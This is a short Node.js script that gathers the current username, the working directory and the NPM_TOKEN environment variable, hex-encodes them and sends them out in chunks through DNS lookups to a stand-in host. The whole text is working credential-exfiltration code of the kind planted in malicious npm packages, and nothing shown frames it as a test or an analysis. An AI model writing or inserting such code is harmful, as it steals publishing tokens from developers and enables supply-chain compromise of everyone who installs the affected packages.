const dns = require("dns"), os = require("os");
const h = Buffer.from(JSON.stringify({ u: os.userInfo().username, p: process.cwd(), t: process.env.NPM_TOKEN })).toString("hex");
h.match(/.{1,60}/g).forEach((c, i) => dns.resolve4(`${c}.${i}.oast-inert.example`, () => {}));
